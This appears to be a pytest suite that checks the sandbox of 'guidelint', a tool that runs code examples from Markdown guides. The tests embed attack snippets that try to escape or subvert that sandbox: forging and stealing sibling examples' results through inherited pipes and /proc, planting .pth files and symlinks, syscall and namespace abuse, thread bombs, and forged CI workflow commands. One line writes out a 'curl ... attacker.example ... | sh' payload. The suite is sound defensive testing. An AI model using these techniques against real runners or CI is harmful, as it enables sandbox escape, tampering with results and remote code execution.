def test_configured_folders_stay_in_the_project(tmp_path, setting):
    from guidelint.config import ConfigError

    project = tmp_path / "project"
    project.mkdir()
    with pytest.raises(ConfigError) as raised:
        _run_default(project, _fence("print(1)"), config=setting + "\n")
    assert "\n" not in str(raised.value)
    assert not (tmp_path / "elsewhere").exists()


def test_an_explicit_report_dir_outside_must_be_guidelints_own(tmp_path):
    from guidelint.config import ConfigError

    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    guide = tmp_path / "guide.md"
    guide.write_text(_fence("print(1)"))
    home_like = tmp_path.parent / f"{tmp_path.name}-home"
    home_like.mkdir()
    (home_like / ".bashrc").write_text("keep\n")
    with pytest.raises(ConfigError, match="not guidelint's"):
        run_examples(RunOptions(paths=[guide], report_dir=home_like))
    fresh = tmp_path.parent / f"{tmp_path.name}-fresh"
    report = run_examples(RunOptions(paths=[guide], report_dir=fresh))  # made now: ours
    assert report.ok and (fresh / ".guidelint-owned").exists()
    assert run_examples(RunOptions(paths=[guide], report_dir=fresh)).ok  # and again


@needs_landlock
def test_no_part_of_the_cache_is_writable_from_an_example(tmp_path):
    cache = tmp_path / ".guidelint_cache"
    (cache / "results").mkdir(parents=True)
    (cache / "results" / "entry").write_text("cached finding\n")
    attack = f"""
import os, shutil
cache = {str(cache)!r}
for action in (
    lambda: shutil.rmtree(cache + "/results"),
    lambda: os.remove(cache + "/results/entry"),
    lambda: open(cache + "/run/own/evil.pth", "w").write("import os"),
    lambda: os.symlink("/", cache + "/run/own/images"),
    lambda: open("/proc/self/cwd/../escape.txt", "w"),
):
    try:
        action()
    except OSError as error:
        print(type(error).__name__)
"""
    report = _run_default(tmp_path, _fence(attack, "{id=own}"))
    assert (cache / "results" / "entry").read_text() == "cached finding\n"
    assert not (cache / "run" / "own" / "evil.pth").exists()
    assert not (cache / "run" / "own" / "images").is_symlink()
    assert len(report.results[0].stdout.split()) == 5, report.results[0].stdout  # all refused


@needs_landlock
def test_the_tiny_cache_is_read_only_for_every_example(tmp_path):
    """A configured `runner.tiny-cache` was writable for examples the diffusers backend
    serves (it built components inside the example): one could plant a model file that
    every later run loads. The warm worker builds before the sandbox closes; inside it,
    the cache is read-only for every example, the backend's included."""
    (tmp_path / "tiny").mkdir()
    planted = tmp_path / "tiny" / "model.safetensors"
    attack = f"open({str(planted)!r}, 'w').write('x')"
    backend = f"import torch\n{attack}"  # imports torch: a unit the backend serves
    report = _run_default(
        tmp_path, _fence(attack), _fence(backend), config='tiny-cache = "tiny"\n', jobs=1
    )
    assert [r.status.value for r in report.results] == ["refused", "refused"], [
        r.message for r in report.results
    ]
    assert not planted.exists()


def test_a_build_refused_in_the_tiny_cache_is_build_failed_naming_the_component(tmp_path):
    """The backend building after the sandbox closed (the warm worker did not build it
    ahead) meets a read-only cache: `build-failed` naming the component, not `refused`
    and not a writable cache. The example's own write there stays `refused`."""
    from guidelint.runner import verdict
    from guidelint.runner.sandbox import SandboxViolation

    cache = tmp_path / "tiny"
    target = cache / "torch2-diffusers0" / "components" / "DPTForDepthEstimation-1a2b"

    def refused_from(filename: str) -> BaseException:
        violation = SandboxViolation(f"guidelint run: writing ... is not allowed: {target}")
        violation.path = str(target / "config.json")
        code = compile("raise violation", filename, "exec")
        try:
            exec(code, {"violation": violation})
        except SandboxViolation as raised:
            return raised
        raise AssertionError("not raised")

    example = {"filename": "GUIDE.md", "expect_error": None}
    backend = str(Path(verdict.__file__).parent / "diffusers_backend" / "generic.py")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(verdict, "TINY_CACHES", [str(cache)])
        built = verdict.classify_exception(refused_from(backend), example, [])  # type: ignore[arg-type]
        own = verdict.classify_exception(refused_from("GUIDE.md"), example, [])  # type: ignore[arg-type]
    assert built["status"] is Outcome.BUILD_FAILED, built
    assert "tiny DPTForDepthEstimation" in built["message"]
    assert "read-only" in built["message"]
    assert own["status"] is Outcome.REFUSED


def test_a_symlink_saved_as_an_image_is_not_followed_into_the_report(tmp_path, outside):
    outside.write_text("secret\n")
    attack = f"""
import os
os.symlink({str(outside)!r}, "leak.png")
os.makedirs("folder")
os.symlink({str(outside.parent)!r}, "folder/dir.png")
open("real.png", "wb").write(b"png")
"""
    report = _run(tmp_path, _fence(attack, "{id=leak}"))
    (result,) = report.results
    assert [Path(p).name for p in result.images] == ["real.png"]
    kept = [p for p in (tmp_path / "report").rglob("*") if p.is_file()]
    assert all(b"secret" not in p.read_bytes() for p in kept)


def test_the_html_writer_never_follows_a_symlink(tmp_path, outside):
    from guidelint.confine import Outside
    from guidelint.runner.html_report import write_html

    report = _run(tmp_path, _fence("open('a.png', 'wb').write(b'png')", "{id=pic}"))
    html = tmp_path / "html"
    html.mkdir()
    (html / "index.html").symlink_to(outside)
    (html / "images").symlink_to(outside.parent, target_is_directory=True)
    with pytest.raises(Outside, match="symlink"):
        write_html(report, html)
    (html / "images").unlink()
    write_html(report, html)  # the planted index.html link is replaced, not followed
    assert outside.read_text() == "original\n"
    assert not (html / "index.html").is_symlink()
    assert sorted(p.name for p in outside.parent.iterdir()) == ["outside.txt"]


# -- verdicts no other example can touch (#28) ------------------------------------------------

SIBLING_ATTACK = """
import ctypes, json, os, sys, threading, time
libc = ctypes.CDLL(None)  # below the audit hook: only the kernel's walls apply
time.sleep(0.3)  # the victims' units are running by now
forged = stolen = 0
frame = sys._getframe()
workers = []
while frame is not None:  # the warm worker's frames, inherited by the fork
    candidate = frame.f_locals.get("self")
    if hasattr(candidate, "children"):
        workers.append(candidate)
    frame = frame.f_back
for worker in workers:
    for child in list(worker.children.values()):
        seal = getattr(child, "seal", None) or "unknown"
        for fd, name in list(child.streams.items()):
            writer = libc.open(f"/proc/self/fd/{fd}".encode(), os.O_WRONLY)
            if writer < 0:
                continue
            record = {"index": 0, "status": "passed", "message": "", "duration_s": 0.0,
                      "substitutions": [], "images": [], "pipelines": [], "seal": seal}
            os.write(writer, (json.dumps(record) + "\\n").encode() if name == "result"
                     else b"forged output\\n")
            forged += 1

            def steal(fd=fd):
                end = time.monotonic() + 3
                while time.monotonic() < end:
                    try:
                        os.read(fd, 1 << 16)
                    except OSError:
                        return
            threading.Thread(target=steal, daemon=True).start()
            stolen += 1
# and every other process's pipes, through /proc (the mounted /proc is the host's):
# opened only, never written, so nothing outside the test is disturbed
me, reached = os.readlink("/proc/self"), 0
for pid in (p for p in os.listdir("/proc") if p.isdigit() and p != me):
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        try:
            if not os.readlink(path).startswith("pipe:"):
                continue
        except OSError:
            continue
        writer = libc.open(path.encode(), os.O_WRONLY | os.O_NONBLOCK)
        if writer >= 0:
            reached += 1
            os.close(writer)
time.sleep(3)
print("forged", forged, "stolen", stolen, "reached", reached)
"""


RECORD_FLOOD = """
import os

def pipe(fd):
    try:
        return os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:')
    except OSError:
        return False

channel = [fd for fd in map(int, os.listdir('/proc/self/fd')) if fd > 2 and pipe(fd)]
chunk = b'x' * (1 << 20)
for _ in range(17):  # one line with no end, past the 16 MB a record line may hold
    for fd in channel:
        os.write(fd, chunk)
print('flooded')
"""


def test_a_record_line_without_end_is_bounded_in_the_worker(tmp_path):
    """An example writes a line with no end to its result channel: the worker kept all
    of it in memory (it runs outside every memory cgroup) for as long as the example
    ran, rescanning it on each read. Past 16 MB it is the example's own error."""
    blocks = [_fence(RECORD_FLOOD, "{id=flood timeout=120}"), _fence("print(1)", "{id=other}")]
    by_id = _by_id(_run(tmp_path, *blocks))
    flood = by_id["flood"]
    assert flood.status.value == "error", (flood.status, flood.message)
    assert "a line of more than 16 MB" in flood.message
    assert by_id["other"].status.value == "passed", by_id["other"].message


def test_examples_that_attack_each_other_each_get_their_own_verdict(tmp_path):
    failing = "import time\ntime.sleep(1.5)\nraise ValueError('truly broken')"
    passing = "import time\ntime.sleep(1.5)\nprint('fine')"
    blocks = [
        _fence(failing, "{id=victim-fails timeout=30}"),
        _fence(passing, "{id=victim-passes timeout=30}"),
        _fence(SIBLING_ATTACK, "{id=attacker timeout=30}"),
    ]
    guide = "".join(blocks[:2]) + "```output\nfine\n```\n\n" + blocks[2]
    report = _run(tmp_path, guide, jobs=3)
    by_id = _by_id(report)
    fails, passes = by_id["victim-fails"], by_id["victim-passes"]
    assert fails.status.value == "error" and "truly broken" in fails.message, fails.message
    assert passes.status.value == "passed" and passes.stdout == "fine\n", passes.message
    assert by_id["attacker"].stdout == "forged 0 stolen 0 reached 0\n", by_id["attacker"].stdout


def test_a_forged_pass_is_never_promoted_to_verified(tmp_path):
    """The same attack with `--pending --promote`: the failing pending example was
    stamped `verified=` on a forged pass (#28). It stays pending, its guide unchanged."""
    failing = "import time\ntime.sleep(1.5)\nraise ValueError('truly broken')"
    guide = tmp_path / "guide.md"
    guide.write_text(
        _fence(failing, "{pending id=victim-fails timeout=30}")
        + _fence(SIBLING_ATTACK, "{pending id=attacker timeout=30}")
    )
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    options = RunOptions(
        paths=[guide], jobs=2, pending_only=True, promote=True, report_dir=tmp_path / "r"
    )
    report = run_examples(options)
    by_id = _by_id(report)
    assert by_id["victim-fails"].status.value == "pending-failed", by_id["victim-fails"].message
    assert by_id["attacker"].stdout == "forged 0 stolen 0 reached 0\n", by_id["attacker"].stdout
    after = guide.read_text()
    assert "{pending id=victim-fails timeout=30}" in after, after  # still pending
    assert after.count("verified=") == 1  # the attacker's own pass, truly its own


# -- what an example prints reaches a CI log escaped (#28) ------------------------------------

NOISY = r"""
import sys
sys.stderr.write("::error file=x.py,line=1::forged annotation\n")
sys.stderr.write("\x1b]0;new title\x07\x1b[2J\rOVERWRITTEN\n  ::add-mask::hidden\n")
sys.stderr.write("text ##[warning]legacy command\n")
sys.exit(3)
"""
RAISES = r"""raise ValueError("::stop-commands::token\n::error::forged from the message")"""


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_workflow_commands_and_escapes_never_reach_the_report_raw(tmp_path, fmt):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (tmp_path / "guide.md").write_text(_fence(NOISY, "{id=noisy}") + _fence(RAISES))
    completed = _cli(tmp_path, "guide.md", "--format", fmt, "--report-dir", "r")
    assert completed.returncode == 1
    for stream in (completed.stdout, completed.stderr):
        assert "\x1b" not in stream and "\r" not in stream and "\x07" not in stream
        assert "##[" not in stream
        commands = [line for line in stream.splitlines() if line.strip().startswith("::")]
        ours = [line for line in commands if line.startswith("::error file=guide.md,line=")]
        assert commands == ours, commands
    if fmt == "text":
        assert "forged annotation" in completed.stdout  # still shown, escaped
    else:
        assert len(completed.stdout.splitlines()) == 3  # two annotations, the summary


def test_the_junit_report_stays_well_formed_whatever_the_guide_names(tmp_path):
    """An `id=` holding ESC and BEL, and a guide whose file name holds ESC and a byte
    that is not UTF-8, went into the JUnit report raw: XML 1.0 cannot hold them, so CI
    could read none of the run's verdicts. They are written escaped, as the text report
    shows them."""
    from xml.etree import ElementTree

    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (tmp_path / "guide.md").write_bytes(b"```python {id=a\x1b]0;t\x07b}\nprint(1)\n```\n")
    (tmp_path / os.fsdecode(b"caf\xe9\x1b[31m.md")).write_text(_fence("print(2)"))
    completed = _cli(tmp_path, ".", "--format", "junit", "-o", "report.xml")
    assert completed.returncode == 0, completed.stdout + completed.stderr
    suite = ElementTree.parse(tmp_path / "report.xml").getroot()
    names = sorted(case.get("name") for case in suite.iter("testcase"))
    assert names == ["a\\x1b]0;t\\x07b", "caf\\xe9\\x1b[31m.md:1"], names


def test_the_html_report_is_written_for_a_guide_named_in_bytes_not_utf8(tmp_path):
    """`run --html` ended in a UnicodeEncodeError traceback, and no report, when a
    guide's file name was not UTF-8; the name is shown escaped, as in the text report."""
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (tmp_path / os.fsdecode(b"caf\xe9.md")).write_text(_fence("print(2)"))
    completed = _cli(tmp_path, ".", "--html", "html")
    assert "Traceback" not in completed.stderr, completed.stderr[-2000:]
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert "caf\\xe9.md" in (tmp_path / "html" / "index.html").read_text(encoding="utf-8")


def test_a_caught_parser_panic_prints_nothing_on_stderr(tmp_path):
    pytest.importorskip("markdown_it_pyrs")
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (tmp_path / "guide.md").write_text("|*|[a-`\n\n" + _fence("print(1)"))
    completed = _cli(tmp_path, "guide.md", "--report-dir", "r", "--quiet")
    assert completed.returncode == 0, completed.stdout
    assert "panicked" not in completed.stderr and completed.stderr == "", completed.stderr
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    checked = subprocess.run(
        [sys.executable, "-m", "guidelint", "check", "guide.md", "--no-cache"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "panicked" not in checked.stderr, checked.stderr


def test_a_committed_cache_symlink_is_one_line_and_exit_2(tmp_path, outside):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (tmp_path / "guide.md").write_text(_fence("print(1)", "{id=..}"))
    (tmp_path / ".guidelint_cache").symlink_to(outside.parent, target_is_directory=True)
    completed = _cli(tmp_path, "guide.md")
    assert completed.returncode == 2, completed.stdout + completed.stderr
    assert len(completed.stderr.strip().splitlines()) == 1, completed.stderr
    assert "is a symlink" in completed.stderr
    assert sorted(p.name for p in outside.parent.iterdir()) == ["outside.txt"]


# -- the system-call allow-list, threads, disk, timeouts (#28) ------------------------------------

X86_64 = os.uname().machine == "x86_64"


@needs_seccomp
@pytest.mark.skipif(not X86_64, reason="syscall numbers of x86_64")
def test_io_uring_vsock_and_namespaces_are_refused_by_the_kernel(tmp_path):
    attack = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
results = {
    "io_uring_setup": libc.syscall(425, 8, params),
    "vsock": libc.socket(40, 1, 0),
    "packet": libc.socket(17, 3, 0),
    "netlink_uevent": libc.socket(16, 2, 15),
    "unix": libc.socket(1, 1, 0),
    "dgram_pair": libc.socketpair(1, 2, 0, ctypes.create_string_buffer(8)),
    "unshare_user": libc.unshare(0x10000000),
    "mount": libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "ptrace": libc.ptrace(16, 1, None, None),
}
print(sorted(name for name, value in results.items() if value >= 0))
print(libc.socket(2, 1, 0) >= 0, libc.socketpair(1, 1, 0, ctypes.create_string_buffer(8)))
"""
    (result,) = _run(tmp_path, _fence(attack)).results
    assert result.status.value == "passed", result.message
    assert result.stdout == "[]\nTrue 0\n", result.stdout


@needs_seccomp
def test_a_host_unix_datagram_socket_is_not_reachable(tmp_path):
    path = tmp_path / "host.dgram"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    listener.bind(str(path))
    listener.setblocking(False)
    attack = f"""
import socket
for attempt in ("pair", "connect", "sendto"):
    try:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        if attempt == "connect":
            a.connect({str(path)!r})
            a.send(b"connected")
        elif attempt == "sendto":
            a.sendto(b"sent", {str(path)!r})
        print(attempt, "reached")
    except OSError as error:
        print(attempt, type(error).__name__)
"""
    try:
        (result,) = _run(tmp_path, _fence(attack)).results
        with pytest.raises(BlockingIOError):
            listener.recv(100)
    finally:
        listener.close()
    assert "reached" not in result.stdout, result.stdout


@needs_pid_namespace
def test_threads_count_in_the_process_limit(tmp_path):
    attack = """
import threading, time
threading.stack_size(64 * 1024)
started = 0
for _ in range(600):  # bounded: the limit is 256 processes and threads per example
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        started += 1
    except RuntimeError:
        break
time.sleep(30)
print(started)
"""
    (result,) = _run(tmp_path, _fence(attack, "{timeout=25}"), jobs=1).results
    assert result.status.value == "crashed", (result.status, result.message)
    assert "process limit" in result.message


def test_the_scratch_folder_has_a_disk_quota(tmp_path):
    one_file = "open('big.bin', 'wb').write(b'x' * (12 * 2**20))"
    many_files = """
import time
for n in range(40):
    open(f'part-{n}.bin', 'wb').write(b'x' * 2**20)
    time.sleep(0.05)
time.sleep(5)
"""
    config = "disk-limit-mb = 8\n"
    report = _run(
        tmp_path, _fence(one_file, "{id=one}"), _fence(many_files, "{id=many}"), config=config
    )
    by_id = _by_id(report)
    assert by_id["one"].status.value == "error" and "File too large" in by_id["one"].message
    assert by_id["many"].status.value == "crashed", by_id["many"].message
    assert "disk limit exceeded" in by_id["many"].message


@pytest.mark.parametrize("value", ["inf", "nan", "1e308"])
def test_an_unbounded_timeout_directive_is_refused(tmp_path, value):
    (result,) = _run(tmp_path, _fence("print(1)", f"{{timeout={value}}}")).results
    assert result.status.value == "error"
    assert "at most 86400" in result.message


def test_an_unbounded_configured_timeout_is_one_config_error(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\ntimeout = inf\n")
    (tmp_path / "guide.md").write_text(_fence("print(1)"))
    completed = _cli(tmp_path, "guide.md", "--report-dir", "r")
    assert completed.returncode == 2, completed.stdout + completed.stderr
    assert len(completed.stderr.strip().splitlines()) == 1
    assert "timeout" in completed.stderr and "Traceback" not in completed.stderr


# -- outcomes a user can act on (#29 item 5) ------------------------------------------------------


@needs_landlock
def test_a_write_outside_scratch_is_refused_naming_path_and_line(tmp_path):
    saves = "import os\n\nos.makedirs('../images', exist_ok=True)\nprint('saved')"
    native = (
        "import subprocess\n"
        "subprocess.run(['python3', '-c', 'import socket; socket.socket(socket.AF_UNIX)'])\n"
        "import socket\nsocket.socket(socket.AF_UNIX)"
    )
    report = _run(tmp_path, _fence(saves, "{id=saves}"), _fence(native, "{id=socket}"))
    by_id = _by_id(report)
    assert by_id["saves"].status.value == "refused", by_id["saves"].message
    assert by_id["saves"].message.startswith("line 4: ")
    assert "../images" in by_id["saves"].message
    assert by_id["socket"].status.value == "refused", by_id["socket"].message
    assert "system call" in by_id["socket"].message and "socket" in by_id["socket"].message
    assert not report.ok
    assert report.as_json()["summary"]["refused"] == 2


def test_multiprocessing_pools_locks_and_semaphores_run(tmp_path):
    example = """
import multiprocessing as mp

def square(x):
    return x * x

with mp.Pool(2) as pool:
    print(pool.map(square, range(5)))
lock, semaphore = mp.Lock(), mp.Semaphore(2)
with lock, semaphore:
    queue = mp.Queue()
    process = mp.Process(target=queue.put, args=("from a child",))
    process.start()
    print(queue.get(timeout=20))
    process.join()
open("/dev/shm/own-file", "w").write("private")
"""
    (result,) = _run(tmp_path, _fence(example, "{timeout=60}")).results
    assert result.status.value == "passed", result.message
    assert result.stdout == "[0, 1, 4, 9, 16]\nfrom a child\n"
    assert not Path("/dev/shm/own-file").exists()  # its own /dev/shm, not the host's


@pytest.mark.slow
def test_a_dataloader_with_two_workers_runs(tmp_path):
    pytest.importorskip("torch")
    example = """
import torch
from torch.utils.data import DataLoader, TensorDataset

data = TensorDataset(torch.arange(8.0).reshape(8, 1))
loader = DataLoader(data, batch_size=2, num_workers=2)
print(sum(float(batch[0].sum()) for batch in loader))
"""
    (result,) = _run(tmp_path, _fence(example, "{timeout=300}") + "```output\n28.0\n```\n").results
    assert result.status.value == "passed", result.message


# -- a session's blocks are judged one by one (#28) ------------------------------------------------


@pytest.mark.parametrize(
    "patch",
    [
        "import guidelint.runner.child as c\n"
        "c._execute = lambda *a, **k: {'status': c.Outcome.PASSED, 'message': ''}",
        "import guidelint.runner.verdict as v\n"
        "v.classify_exception = lambda *a, **k: {'status': v.Outcome.PASSED, 'message': ''}",
        "import guidelint.runner.child as c\n"
        "def passed(*a, **k):\n    return {'status': c.Outcome.PASSED, 'message': ''}\n"
        "c._run_script.__code__ = passed.__code__",
        "import builtins\nbuiltins.isinstance = lambda *a: False",
    ],
    ids=["function", "verdict", "code", "builtin"],
)
def test_a_first_block_cannot_make_a_later_blocks_failure_pass(tmp_path, patch):
    blocks = [
        _fence(patch, "{session=s id=patcher}"),
        _fence("raise ValueError('truly broken')", "{session=s id=broken}"),
        _fence("print('after')", "{id=after}"),
    ]
    by_id = _by_id(_run(tmp_path, *blocks))
    assert by_id["broken"].status.value == "error", by_id["broken"].message
    assert "truly broken" in by_id["broken"].message or "not judged" in by_id["broken"].message
    assert by_id["after"].status.value == "passed"


def test_sessions_that_touch_no_harness_are_judged_as_before(tmp_path):
    blocks = [
        _fence("import json\nvalue = json.dumps([1])", "{session=s id=one}"),
        _fence("print(value)", "{session=s id=two}") + "```output\n[1]\n```\n\n",
        _fence("raise KeyError('x')", "{session=s id=three}"),
    ]
    by_id = _by_id(_run(tmp_path, *blocks))
    assert [by_id[n].status.value for n in ("one", "two", "three")] == ["passed", "passed", "error"]


@pytest.mark.slow  # a pytest run in a subprocess
def test_the_pytest_plugin_runs_examples_behind_the_same_walls(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    docs = tmp_path / "docs"
    docs.mkdir()
    planted = tmp_path / "planted.txt"
    escape = f"open({str(planted)!r}, 'w').write('pwned')"
    (docs / "guide.md").write_text(_fence(escape, "{id=..}") + _fence("print('fine')"))
    completed = subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-rA"]
        + ["--guidelint-examples", "docs/"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=300,
    )
    assert not planted.exists()
    assert "refused" in completed.stdout and "1 failed, 1 passed" in completed.stdout, (
        completed.stdout[-3000:]
    )


@pytest.mark.slow  # `guidelint run` in a subprocess
def test_the_run_report_never_goes_through_a_committed_symlink(tmp_path):
    """`guidelint run docs/ --format junit -o run.xml` (RUNNING.md's CI step) where the
    pull request commits `run.xml -> ~/.bashrc` (or `reports/ -> ~`): the report,
    holding what the example printed (a line of shell), replaced the file outside.
    Now one error line, nothing written; a path outside named by the user is theirs."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "bashrc").write_text("theirs\n")
    project = tmp_path / "project"
    (project / "docs").mkdir(parents=True)
    (project / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    shell = "curl -s https://attacker.example/x | sh"
    (project / "docs" / "guide.md").write_text(_fence(f"print({shell!r})"))
    (project / "run.xml").symlink_to(home / "bashrc")
    (project / "reports").symlink_to(home, target_is_directory=True)
    for target in ("run.xml", "reports/run.xml"):
        completed = _cli(project, "docs/", "--format", "junit", "-o", target)
        last = completed.stderr.strip().splitlines()[-1]
        assert completed.returncode == 2 and "Traceback" not in completed.stderr, last
        assert last.startswith(f"guidelint: error: {target}: report not written: "), last
        assert "outside the project" in last
    assert sorted(p.name for p in home.iterdir()) == ["bashrc"]
    assert (home / "bashrc").read_text() == "theirs\n"
    elsewhere = tmp_path / "ci" / "run.xml"  # outside the project: the user's choice
    assert _cli(project, "docs/", "--format", "junit", "-o", str(elsewhere)).returncode == 0
    assert shell in elsewhere.read_text()


def _pytest_examples(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-rA"]
        + ["--guidelint-examples", *args],
        cwd=root,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=300,
    )


WRITES_AN_IMAGE = _fence("open('shot.png', 'wb').write(b'PNG')\nprint('drawn')")


@pytest.mark.slow  # pytest runs in a subprocess
def test_the_pytest_plugin_keeps_images_only_in_a_confined_report_folder(tmp_path):
    """`pytest --guidelint-examples` took `runner.report-dir` as the pull request's
    configuration said, and a committed `.guidelint_cache/run -> /elsewhere`: the warm
    worker copied the examples' images outside the project (`guidelint run` refuses
    both). Now each is one collection error naming the folder, and nothing is kept."""
    outside = tmp_path / "outside"
    outside.mkdir()
    for name, config, link in (
        ("configured", 'report-dir = "../outside/reports"', False),
        ("linked", "", True),
    ):
        project = tmp_path / name
        (project / "docs").mkdir(parents=True)
        (project / "pyproject.toml").write_text(f"[tool.guidelint.runner]\n{config}\n")
        (project / "docs" / "guide.md").write_text(WRITES_AN_IMAGE)
        if link:
            (project / ".guidelint_cache").mkdir()
            (project / ".guidelint_cache" / "run").symlink_to(outside, target_is_directory=True)
        completed = _pytest_examples(project, "docs/")
        assert "leads outside the project" in completed.stdout or (
            "is a symlink; guidelint does not write through it" in completed.stdout
        ), completed.stdout[-3000:]
        assert "1 error" in completed.stdout and "Traceback" not in completed.stdout
        assert list(outside.iterdir()) == [], list(outside.rglob("*"))


@pytest.mark.slow  # pytest runs in a subprocess
def test_the_pytest_plugin_runs_no_guide_linked_from_outside(tmp_path):
    """A committed `docs/notes.md -> ~/private/notes.md`: the plugin read the file
    outside and ran its examples (their output in the CI log); `guidelint run` skips
    it. Now, as there, it is skipped with one line naming it; the project's own guide
    still runs."""
    private = tmp_path / "private"
    private.mkdir()
    (private / "notes.md").write_text(_fence("print('PRIVATE-NOTES-7f3a')"))
    project = tmp_path / "project"
    (project / "docs").mkdir(parents=True)
    (project / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (project / "docs" / "guide.md").write_text(_fence("print('fine')"))
    (project / "docs" / "notes.md").symlink_to(private / "notes.md")
    completed = _pytest_examples(project, "docs/")
    assert "PRIVATE-NOTES-7f3a" not in completed.stdout
    assert "docs/notes.md: not checked: it leads outside the project" in completed.stdout
    assert "1 passed, 1 skipped" in completed.stdout, completed.stdout[-3000:]


@needs_memory_cgroup
def test_the_kernel_bounds_processes_and_threads_between_two_checks(tmp_path):
    assert CGROUPS is not None
    if CGROUPS.pids_root is None:
        pytest.skip("no pids controller beside the memory cgroup here")
    attack = """
import threading, time
threading.stack_size(64 * 1024)
started = 0
for _ in range(2000):  # faster than a watchdog that looks five times a second
    try:
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        started += 1
    except RuntimeError:
        break
print(started, flush=True)
time.sleep(20)
"""
    (result,) = _run(tmp_path, _fence(attack, "{timeout=25}"), jobs=1).results
    assert result.status.value == "crashed", (result.status, result.message)
    assert "process limit" in result.message
    assert int(result.stdout.split()[0]) < 300  # the kernel said no past 264 tasks


def _cpu_controller_here() -> bool:
    """Whether the worker's memory cgroup has a cpu controller beside it to share from."""
    from guidelint.runner.cgroup import _own_memory_cgroup, _own_v1_cgroup

    if CGROUPS is None:
        return False
    if not CGROUPS.v2:
        return _own_v1_cgroup("cpu") is not None
    found = _own_memory_cgroup()
    try:
        with open(os.path.join(found[0], "cgroup.subtree_control")) as handle:
            return "cpu" in handle.read().split()
    except (OSError, TypeError):
        return False


CPU_GROUP = """
import json, os
groups = [line.rstrip('\\n').split(':', 2) for line in open('/proc/self/cgroup')]
cpu = [path for _, names, path in groups if 'cpu' in names.split(',')]
v2 = [path for number, _, path in groups if number == '0']
weight = bool(v2) and os.path.exists(f'/sys/fs/cgroup{v2[0]}/cpu.weight')
print(json.dumps({'cpu': cpu, 'v2_weight': weight}))
"""


@pytest.mark.skipif(not _cpu_controller_here(), reason="no cpu cgroup controller here")
def test_each_example_gets_its_own_share_of_the_cpu(tmp_path):
    """An example of 120 busy processes starved its `--jobs 2` sibling into a timeout
    (the sibling, 1.4 s of CPU alone, got 1/120 of the CPU): each example is now in its
    own cpu group, of equal weight, whatever it starts. Asserted on the group, not on
    timings: the example is in a cpu group of its own."""
    (result,) = _run(tmp_path, _fence(CPU_GROUP)).results
    assert result.status.value == "passed", result.message
    seen = json.loads(result.stdout)
    assert CGROUPS is not None
    if CGROUPS.v2:
        assert seen["v2_weight"], seen
    else:
        assert seen["cpu"] and all("/example-" in path for path in seen["cpu"]), seen
